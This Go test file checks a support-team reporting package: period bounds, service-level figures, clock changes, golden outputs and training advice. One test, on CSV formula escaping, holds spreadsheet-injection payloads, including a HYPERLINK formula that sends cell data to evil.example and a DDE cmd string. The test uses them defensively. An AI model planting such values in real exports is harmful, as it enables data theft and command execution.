/*
Copyright 2026 The SupportStack Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package report

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"sigs.k8s.io/yaml"

	opsv1alpha1 "github.com/supportstack/operator/api/v1alpha1"
	"github.com/supportstack/operator/internal/actuals"
	"github.com/supportstack/operator/internal/coverage"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// newYork is the test team's zone.
func newYork(t *testing.T) *time.Location {
	t.Helper()
	loc, err := time.LoadLocation("America/New_York")
	if err != nil {
		t.Fatal(err)
	}
	return loc
}

// weekInput is the seeded week of testdata: team.yaml's roster and demand,
// tickets.json's tickets, and the calendar written out by hand as RT
// renders it for the team (Mon-Fri 07:00-20:00 from the early and late
// shifts, Sat-Sun 09:00-17:00, the closed holiday Wed 28 Oct), so the
// figures below can be worked out on paper. The CLI test checks the same
// golden from the team file, where the operator's own derivation
// (controller.ActualsOptions) builds the calendar.
func weekInput(t *testing.T) Input { return weekInputWith(t, nil) }

// weekInputWith is weekInput with the team's spec changed by edit first.
func weekInputWith(t *testing.T, edit func(*opsv1alpha1.SupportTeamSpec)) Input {
	t.Helper()
	loc := newYork(t)
	data, err := os.ReadFile("testdata/team.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var spec struct {
		Spec opsv1alpha1.SupportTeamSpec `json:"spec"`
	}
	if err := yaml.Unmarshal(data, &spec); err != nil {
		t.Fatal(err)
	}
	if edit != nil {
		edit(&spec.Spec)
	}
	team, err := coverage.FromSpec(spec.Spec)
	if err != nil {
		t.Fatal(err)
	}
	var tickets []actuals.Ticket
	data, err = os.ReadFile("testdata/tickets.json")
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(data, &tickets); err != nil {
		t.Fatal(err)
	}
	spans := map[int][2]int{0: {540, 1020}, 6: {540, 1020}}
	for d := 1; d <= 5; d++ {
		spans[d] = [2]int{420, 1200}
	}
	return Input{
		Team: team, Name: "helpdesk/reports",
		Calendar:    actuals.NewCalendar(loc, spans, []string{"2026-10-28"}),
		Targets:     map[string]time.Duration{"email": 2 * time.Hour, "portal": 4 * time.Hour},
		Responders:  map[string]bool{"ann@example.com": true, "ben@example.com": true, "cat@example.com": true, "dan@example.com": true},
		MemberNames: map[string]string{"ann@example.com": "ann", "ben@example.com": "ben", "cat@example.com": "cat", "dan@example.com": "dan"},
		// The operator's ServiceLevelMet threshold.
		TargetPercent: opsv1alpha1.ServiceLevelTargetPercent,
		Period:        Week,
		From:          time.Date(2026, 10, 26, 0, 0, 0, 0, loc),
		To:            time.Date(2026, 11, 2, 0, 0, 0, 0, loc),
		Now:           time.Date(2026, 11, 2, 8, 0, 0, 0, loc),
		Tickets:       tickets,
	}
}

func TestBounds(t *testing.T) {
	loc := newYork(t)
	at := func(s string) time.Time {
		v, err := time.Parse(time.RFC3339, s)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	cases := []struct {
		name     string
		kind     Period
		at       string
		from, to string
	}{
		{"day: the day before", Day, "2026-10-27T15:00:00-04:00", "2026-10-26T00:00:00-04:00", "2026-10-27T00:00:00-04:00"},
		{"day: at midnight the day just ended", Day, "2026-10-27T00:00:00-04:00", "2026-10-26T00:00:00-04:00", "2026-10-27T00:00:00-04:00"},
		// 03:30 UTC on the 27th is still the 26th in New York.
		{"day: the team's zone decides the date", Day, "2026-10-27T03:30:00Z", "2026-10-25T00:00:00-04:00", "2026-10-26T00:00:00-04:00"},
		{"day: the day the clocks go back is 25 hours", Day, "2026-11-02T09:00:00-05:00", "2026-11-01T00:00:00-04:00", "2026-11-02T00:00:00-05:00"},
		{"week: Monday to Monday before a Wednesday", Week, "2026-11-04T12:00:00-05:00", "2026-10-26T00:00:00-04:00", "2026-11-02T00:00:00-05:00"},
		{"week: on a Sunday, the week before last Monday", Week, "2026-11-08T12:00:00-05:00", "2026-10-26T00:00:00-04:00", "2026-11-02T00:00:00-05:00"},
		{"week: at Monday midnight the week just ended", Week, "2026-11-02T00:00:00-05:00", "2026-10-26T00:00:00-04:00", "2026-11-02T00:00:00-05:00"},
		{"month: the month before", Month, "2026-11-15T12:00:00-05:00", "2026-10-01T00:00:00-04:00", "2026-11-01T00:00:00-04:00"},
		{"month: January reports December of the year before", Month, "2027-01-03T12:00:00-05:00", "2026-12-01T00:00:00-05:00", "2027-01-01T00:00:00-05:00"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			from, to, err := Bounds(c.kind, at(c.at), loc)
			if err != nil {
				t.Fatal(err)
			}
			if !from.Equal(at(c.from)) || !to.Equal(at(c.to)) {
				t.Errorf("Bounds = %s to %s, want %s to %s", from.Format(time.RFC3339), to.Format(time.RFC3339), c.from, c.to)
			}
		})
	}
	if _, _, err := Bounds("fortnight", at(cases[0].at), loc); err == nil {
		t.Error("Bounds accepted the period fortnight")
	}
}

func TestCauseOf(t *testing.T) {
	cases := []struct {
		name                string
		created             int
		forecast            float64
		required, scheduled int
		want                Cause
	}{
		{"one ticket where none was forecast is a surge", 1, 0, 0, 0, DemandAboveForecast},
		{"one ticket where half was forecast is under the one-ticket margin", 1, 0.5, 1, 1, Neither},
		{"8 forecast: 10 is 25% and 2 tickets above", 10, 8, 1, 1, DemandAboveForecast},
		{"8 forecast: 9 is under 25% above", 9, 8, 1, 1, Neither},
		{"as forecast with nobody scheduled", 1, 1, 1, 0, StaffBelowPlan},
		{"above forecast and short", 4, 2, 2, 1, Both},
		{"more scheduled than required is no shortfall", 2, 2, 1, 3, Neither},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := CauseOf(c.created, c.forecast, c.required, c.scheduled); got != c.want {
				t.Errorf("CauseOf(%d, %g, %d, %d) = %q, want %q", c.created, c.forecast, c.required, c.scheduled, got, c.want)
			}
		})
	}
}

// find returns the report's day of date.
func find(t *testing.T, r Report, date string) DayFigures {
	t.Helper()
	for _, d := range r.Days {
		if d.Date == date {
			return d
		}
	}
	t.Fatalf("no day %s in the report", date)
	return DayFigures{}
}

// TestBuildWeek checks figures worked out by hand from testdata (see the
// comments in tickets.json's terms: times are New York's).
func TestBuildWeek(t *testing.T) {
	r, err := Build(weekInput(t))
	if err != nil {
		t.Fatal(err)
	}
	t.Run("service level per queue", func(t *testing.T) {
		// email: met #1 (30m), #4 (45m), #5 (Tue 19:30 to Thu 07:30 is 1h of
		// business time: the closed Wednesday stops the clock), #7, #8, #9
		// (1h each across the weekend and the clock change); missed #2
		// (2h40m), #3 (2h15m), #6 (created on the closed holiday, answered
		// Thu 09:30: 2h30m), #13 (a non-member's reply at 12:10 is no
		// answer, ben's at 15:00 is 3h); #12 is pending (10m of business
		// time by Monday 08:00... plus Monday's first hour: 1h10m < 2h).
		// #14 and #15 are outside the week. 6/(6+4) = 60%.
		want := map[string][4]int{"email": {11, 6, 4, 1}, "portal": {2, 1, 1, 0}}
		wantPercent := map[string]int{"email": 60, "portal": 50}
		for _, s := range r.ServiceLevels {
			w := want[s.Queue]
			if s.Created != w[0] || s.Met != w[1] || s.Missed != w[2] || s.Pending != w[3] {
				t.Errorf("%s: created %d met %d missed %d pending %d, want %v", s.Queue, s.Created, s.Met, s.Missed, s.Pending, w)
			}
			if s.ServiceLevelPercent == nil || *s.ServiceLevelPercent != wantPercent[s.Queue] {
				t.Errorf("%s: service level %v, want %d%%", s.Queue, s.ServiceLevelPercent, wantPercent[s.Queue])
			}
			if s.MetTarget == nil || *s.MetTarget {
				t.Errorf("%s: met the 90%% target %v, want false", s.Queue, s.MetTarget)
			}
		}
		if len(r.ServiceLevels) != 2 {
			t.Errorf("%d queues, want email and portal", len(r.ServiceLevels))
		}
	})
	t.Run("volumes of Monday 26 October", func(t *testing.T) {
		d := find(t, r, "2026-10-26")
		// email 4 (#1-#4), portal 1 (#10); forecast email 08:00-18:00 at
		// 4/h = 40, portal 09:00-17:00 at 2/h = 16.
		if d.Created != 5 || d.Queues[0].Created != 4 || d.Queues[1].Created != 1 {
			t.Errorf("Monday created %d (email %d, portal %d), want 5 (4, 1)", d.Created, d.Queues[0].Created, d.Queues[1].Created)
		}
		if d.Forecast != 56 || d.Queues[0].Forecast != 40 || d.Queues[1].Forecast != 16 {
			t.Errorf("Monday forecast %g (email %g, portal %g), want 56 (40, 16)", d.Forecast, d.Queues[0].Forecast, d.Queues[1].Forecast)
		}
		// #1, #4 met, #2, #3 missed.
		if p := d.Queues[0].ServiceLevelPercent; p == nil || *p != 50 {
			t.Errorf("Monday email service level %v, want 50%%", p)
		}
	})
	t.Run("holidays and the clock change", func(t *testing.T) {
		if d := find(t, r, "2026-10-28"); d.Holiday != "closed" || d.Forecast != 0 || d.Created != 1 {
			t.Errorf("Wed 28 (closed): holiday %q forecast %g created %d, want closed, 0, 1", d.Holiday, d.Forecast, d.Created)
		}
		if d := find(t, r, "2026-10-30"); d.Holiday != "open" || d.Forecast != 56 {
			t.Errorf("Fri 30 (open): holiday %q forecast %g, want open and an ordinary Friday's 56", d.Holiday, d.Forecast)
		}
		// 7 days, one 25 hours long: 7*48+2 half-hours.
		if len(r.Intervals) != 338 {
			t.Errorf("%d half-hours, want 338", len(r.Intervals))
		}
		// #8 at 01:30 EDT and #9 at 01:30 EST: both in hour 1, in two
		// half-hours.
		if r.Hours[1].Created != 2 {
			t.Errorf("hour 1: %d created, want 2", r.Hours[1].Created)
		}
	})
	t.Run("a member's figures", func(t *testing.T) {
		// ann answered first #1 30m, #2 2h40m, #4 45m, #5 1h, #6 2h30m,
		// #10 5h, #11 30m (business time): the 4th of 7 sorted is 1h. She
		// resolved #1, #10, #11 (#14's reply is before the week).
		want := map[string]MemberFigures{
			"ann":                  {Name: "ann", RTUser: "ann@example.com", Member: true, Resolved: 3, Answered: 7, MedianFirstResponseSeconds: 3600},
			"dan":                  {Name: "dan", RTUser: "dan@example.com", Member: true},
			"vendor@other.example": {Name: "vendor@other.example", RTUser: "vendor@other.example", Resolved: 1},
		}
		for _, m := range r.Members {
			if w, ok := want[m.Name]; ok {
				if m != w {
					t.Errorf("%s: %+v, want %+v", m.Name, m, w)
				}
				delete(want, m.Name)
			}
		}
		if len(want) != 0 {
			t.Errorf("missing members %v", want)
		}
	})
	t.Run("worst intervals and their causes", func(t *testing.T) {
		loc := newYork(t)
		want := []struct {
			start  time.Time
			queue  string
			missed int
			cause  Cause
		}{
			// 4 created where 2 were forecast, ann on shift for email: the
			// surge, not the plan.
			{time.Date(2026, 10, 26, 9, 0, 0, 0, loc), "email", 2, DemandAboveForecast},
			// ann is the only one on shift until 11:30 and serves email
			// first (spec order): portal's 1 required has nobody.
			{time.Date(2026, 10, 26, 10, 0, 0, 0, loc), "portal", 1, StaffBelowPlan},
			// #6 on the closed holiday: nothing forecast, nothing required.
			{time.Date(2026, 10, 28, 10, 0, 0, 0, loc), "email", 1, DemandAboveForecast},
			// #13: 1 created of 2 forecast, ben on email: neither.
			{time.Date(2026, 10, 29, 12, 0, 0, 0, loc), "email", 1, Neither},
			// Then the gaps without a missed ticket, earliest first.
			{time.Date(2026, 10, 26, 9, 0, 0, 0, loc), "portal", 0, StaffBelowPlan},
		}
		if len(r.Worst) != MaxWorst {
			t.Fatalf("%d worst intervals, want %d", len(r.Worst), MaxWorst)
		}
		for i, w := range want {
			g := r.Worst[i]
			if !g.Start.Equal(w.start) || g.Queue != w.queue || g.Missed != w.missed || g.Cause != w.cause {
				t.Errorf("worst #%d: %s %s missed %d %q, want %s %s missed %d %q", i+1, g.Start.Format(time.RFC3339), g.Queue, g.Missed, g.Cause,
					w.start.Format(time.RFC3339), w.queue, w.missed, w.cause)
			}
		}
	})
	t.Run("golden JSON and CSV", func(t *testing.T) {
		var j, c bytes.Buffer
		if err := r.WriteJSON(&j); err != nil {
			t.Fatal(err)
		}
		if err := r.WriteCSV(&c); err != nil {
			t.Fatal(err)
		}
		golden(t, "testdata/week.json", j.Bytes())
		golden(t, "testdata/week.csv", c.Bytes())
	})
}

// golden compares got with the file, or rewrites it with -update.
func golden(t *testing.T, path string, got []byte) {
	t.Helper()
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./internal/report -update to write it)", err)
	}
	if !bytes.Equal(got, want) {
		gl, wl := strings.Split(string(got), "\n"), strings.Split(string(want), "\n")
		for i := range min(len(gl), len(wl)) {
			if gl[i] != wl[i] {
				t.Fatalf("%s differs at line %d:\n got %s\nwant %s\n(review, then go test ./internal/report -update)", filepath.Base(path), i+1, gl[i], wl[i])
			}
		}
		t.Fatalf("%s: %d lines, want %d (review, then -update)", filepath.Base(path), len(gl), len(wl))
	}
}

// TestBuildPeriodEnds: a ticket created at the period's first instant is
// in it, one at its end is not (Compute's window is open at its start, so
// Build widens it by a nanosecond).
func TestBuildPeriodEnds(t *testing.T) {
	in := weekInput(t)
	in.Tickets = []actuals.Ticket{
		{ID: 1, Queue: "email", Created: in.From},
		{ID: 2, Queue: "email", Created: in.To.Add(-time.Nanosecond)},
		{ID: 3, Queue: "email", Created: in.To},
		{ID: 4, Queue: "email", Created: in.From.Add(-time.Nanosecond)},
	}
	r, err := Build(in)
	if err != nil {
		t.Fatal(err)
	}
	if got := r.ServiceLevels[0].Created; got != 2 {
		t.Errorf("%d tickets in the period, want 2 (at its start and just before its end)", got)
	}
	if first, last := r.Days[0], r.Days[len(r.Days)-1]; first.Created != 1 || last.Created != 1 {
		t.Errorf("first day %d, last day %d created, want 1 and 1", first.Created, last.Created)
	}
}

func TestBuildRefuses(t *testing.T) {
	base := weekInput(t)
	cases := []struct {
		name   string
		change func(in *Input)
		want   string
	}{
		{"empty period", func(in *Input) { in.To = in.From }, "not before its end"},
		{"end before start", func(in *Input) { in.From, in.To = in.To, in.From }, "not before its end"},
		{"not a midnight", func(in *Input) { in.From = in.From.Add(time.Hour) }, "first instants of local dates"},
		// Midnight UTC is 20:00 in New York.
		{"a UTC midnight", func(in *Input) { in.From = time.Date(2026, 10, 26, 0, 0, 0, 0, time.UTC) }, "first instants of local dates"},
		{"as of before the period", func(in *Input) { in.Now = in.From.Add(-time.Minute) }, "before the period starts"},
		{"no time zone", func(in *Input) { in.Team.Location = nil }, "no time zone"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			in := base
			c.change(&in)
			_, err := Build(in)
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("Build: %v, want an error with %q", err, c.want)
			}
		})
	}
}

// TestBuildClocksForwardAtMidnight: where the clocks go forward at
// midnight, 00:00 of that date does not exist and the date starts at
// 01:00. A Santiago month and week holding 6 September 2026, and Cairo's
// 24 April 2026 as a day, are reported: every date once, the skipped
// hour's two half-hours absent, a ticket at the date's first instant on
// that date. (Stepping days with time.Date at 00:00 never left 5
// September in Santiago, and Cairo's day was refused as not a midnight.)
func TestBuildClocksForwardAtMidnight(t *testing.T) {
	cases := []struct {
		zone        string
		kind        Period
		at          string
		from, to    string
		days, halfs int
		gap         string // the date whose first instant is 01:00
	}{
		{"America/Santiago", Month, "2026-10-15T12:00:00-03:00", "2026-09-01T00:00:00-04:00", "2026-10-01T00:00:00-03:00", 30, 30*48 - 2, "2026-09-06"},
		{"America/Santiago", Week, "2026-09-09T12:00:00-03:00", "2026-08-31T00:00:00-04:00", "2026-09-07T00:00:00-03:00", 7, 7*48 - 2, "2026-09-06"},
		{"Africa/Cairo", Day, "2026-04-25T12:00:00+03:00", "2026-04-24T01:00:00+03:00", "2026-04-25T00:00:00+03:00", 1, 46, "2026-04-24"},
	}
	for _, c := range cases {
		t.Run(c.zone+" "+string(c.kind), func(t *testing.T) {
			loc, err := time.LoadLocation(c.zone)
			if err != nil {
				t.Fatal(err)
			}
			at, _ := time.Parse(time.RFC3339, c.at)
			from, to, err := Bounds(c.kind, at, loc)
			if err != nil {
				t.Fatal(err)
			}
			if from.Format(time.RFC3339) != c.from || to.Format(time.RFC3339) != c.to {
				t.Fatalf("Bounds = %s to %s, want %s to %s", from.Format(time.RFC3339), to.Format(time.RFC3339), c.from, c.to)
			}
			in := weekInput(t)
			// The calendar too is the zone's: its business time steps the
			// same days (the reply on the day that starts at 01:00 is measured
			// in it; before, that measure never ended).
			in.Team.Location, in.Calendar.Location = loc, loc
			in.Period, in.From, in.To, in.Now = c.kind, from, to, to
			gapStart, _ := time.ParseInLocation(time.DateOnly+" 15:04", c.gap+" 01:00", loc)
			in.Tickets = []actuals.Ticket{{ID: 1, Queue: "email", Created: gapStart, Replies: []actuals.Event{{At: gapStart.Add(time.Hour), User: "ann@example.com"}}}}
			r, err := Build(in)
			if err != nil {
				t.Fatal(err)
			}
			if len(r.Days) != c.days || len(r.Intervals) != c.halfs {
				t.Errorf("%d days and %d half-hours, want %d and %d", len(r.Days), len(r.Intervals), c.days, c.halfs)
			}
			seen := map[string]bool{}
			for _, d := range r.Days {
				if seen[d.Date] {
					t.Errorf("date %s twice", d.Date)
				}
				seen[d.Date] = true
				if want := map[bool]int{true: 1, false: 0}[d.Date == c.gap]; d.Created != want {
					t.Errorf("%s: %d created, want %d", d.Date, d.Created, want)
				}
			}
			if first := r.Intervals[0].Start; !first.Equal(from) {
				t.Errorf("first half-hour at %s, want %s", first.Format(time.RFC3339), c.from)
			}
		})
	}
}

// TestCSVDefusesFormulas: names come from RT and the spec, where anyone
// who opens a ticket or names a user writes them; a cell a spreadsheet
// would run as a formula gets a leading ', numbers (negative too) stay.
func TestCSVDefusesFormulas(t *testing.T) {
	r, err := Build(weekInput(t))
	if err != nil {
		t.Fatal(err)
	}
	r.Team = "=HYPERLINK(\"https://evil.example/\"&A1)"
	r.Members = append(r.Members, MemberFigures{Name: "@SUM(1+1)", RTUser: "+cmd|' /C calc'!A0", Resolved: 2},
		MemberFigures{Name: "-2", RTUser: "\tx"})
	var out bytes.Buffer
	if err := r.WriteCSV(&out); err != nil {
		t.Fatal(err)
	}
	text := out.String()
	for _, want := range []string{
		`period,,,,,team,"'=HYPERLINK(""https://evil.example/""&A1)"`,
		"member,,,,'@SUM(1+1),rt_user,'+cmd|' /C calc'!A0",
		"member,,,,'@SUM(1+1),resolved,2",
		"member,,,,-2,rt_user,'\tx",
	} {
		if !strings.Contains(text, want+"\n") {
			t.Errorf("the CSV lacks the row %q", want)
		}
	}
	for _, c := range []struct{ in, want string }{{"-1.5", "-1.5"}, {"=1", "'=1"}, {"+1", "+1"}, {"a=b", "a=b"}, {"", ""}, {"\rx", "'\rx"}} {
		if got := cell(c.in); got != c.want {
			t.Errorf("cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestCSVHourForecast: the hour rows carry the forecast JSON's hours[]
// has (the declared demand of the half-hours starting in that hour).
func TestCSVHourForecast(t *testing.T) {
	r, err := Build(weekInput(t))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := r.WriteCSV(&out); err != nil {
		t.Fatal(err)
	}
	for _, h := range r.Hours {
		row := fmt.Sprintf("hour,,%02d:00,,,forecast,%s\n", h.Hour, num(h.Forecast))
		if !strings.Contains(out.String(), row) {
			t.Errorf("the CSV lacks %q", row)
		}
	}
	if r.Hours[9].Forecast == 0 {
		t.Error("09:00 has no forecast: the test checks nothing")
	}
}

// TestMembersWithoutEmail: a member the spec gives no e-mail cannot be
// matched to an RT user, but is listed, with zeros, rather than missing.
func TestMembersWithoutEmail(t *testing.T) {
	in := weekInput(t)
	in.NoEmail = []string{"eve"}
	r, err := Build(in)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range r.Members {
		if m.Name == "eve" {
			if !m.Member || m.RTUser != "" || m.Resolved != 0 || m.Answered != 0 {
				t.Errorf("eve: %+v, want a member with no RT user and zeros", m)
			}
			return
		}
	}
	t.Errorf("eve is not in the members: %+v", r.Members)
}

// TestTrainingNeeds: the report ranks who to train in what over the
// period's half-hours. In the seeded week nobody would help (after 15:30
// ben is alone on the late shift, and email needs him), so the list is
// empty. With eve beside him on the late shift (email only, like ben),
// one of the two is spare for email from 15:30 while portal has nobody
// with its skill until it closes at 17:00: training either in portal
// closes those half-hours, ben first by name.
func TestTrainingNeeds(t *testing.T) {
	r, err := Build(weekInput(t))
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Training) != 0 {
		t.Errorf("seeded week: training %+v, want none", r.Training)
	}
	r, err = Build(weekInputWith(t, func(spec *opsv1alpha1.SupportTeamSpec) {
		spec.Members = append(spec.Members, opsv1alpha1.Member{Name: "eve", Role: "Specialist", Skills: []string{"email"}, Shifts: []string{"late"}})
	}))
	if err != nil {
		t.Fatal(err)
	}
	// The half-hours where portal is short and two email-only people are
	// on shift with email needing fewer than two, read from the report's
	// own staffing figures.
	spare := 0
	for _, h := range r.Intervals {
		email, portal := h.Queues[0], h.Queues[1]
		if portal.Gap > 0 && email.Scheduled > email.Required {
			spare += min(portal.Gap, email.Scheduled-email.Required)
		}
	}
	if spare == 0 {
		t.Fatal("no half-hour with portal short and email overstaffed: the case shows nothing")
	}
	if len(r.Training) < 2 {
		t.Fatalf("training %+v, want ben and eve in portal", r.Training)
	}
	t.Logf("%d spare half-hours; %s", spare, r.Training[0].Advice)
	for i, who := range []string{"ben", "eve"} {
		n := r.Training[i]
		if n.Member != who || n.Skill != "portal" || n.ClosesStaffHalfHours != spare {
			t.Errorf("training #%d: %+v, want %s in portal closing %d", i+1, n, who, spare)
		}
		if want := fmt.Sprintf("train %s in portal: closes %d of ", who, spare); !strings.HasPrefix(n.Advice, want) {
			t.Errorf("training #%d advice %q, want it to start %q", i+1, n.Advice, want)
		}
	}
	var c, h bytes.Buffer
	if err := r.WriteCSV(&c); err != nil {
		t.Fatal(err)
	}
	if want := fmt.Sprintf("training,,,portal,ben,closes_staff_half_hours,%d\n", spare); !strings.Contains(c.String(), want) {
		t.Errorf("CSV has no row %q", want)
	}
	if err := r.WriteHTML(&h); err != nil {
		t.Fatal(err)
	}
	if want := "<li>" + r.Training[0].Advice + "</li>"; !strings.Contains(h.String(), want) {
		t.Errorf("HTML has no %q", want)
	}
}
